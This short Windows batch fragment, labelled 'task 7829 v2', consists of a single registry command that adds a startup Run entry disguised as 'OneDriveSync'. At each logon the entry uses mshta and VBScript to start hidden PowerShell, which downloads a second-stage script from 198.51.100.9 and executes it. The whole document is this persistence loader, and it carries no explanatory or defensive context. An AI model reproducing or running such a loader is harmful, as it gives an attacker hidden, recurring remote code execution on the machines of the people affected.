REM task 7829 v2
reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v OneDriveSync /t REG_SZ /d "mshta vbscript:Execute(\"CreateObject(\"\"WScript.Shell\"\").Run \"\"powershell -w hidden -c iwr http://198.51.100.9/stage2.ps1|iex\"\", 0:close\")" /f
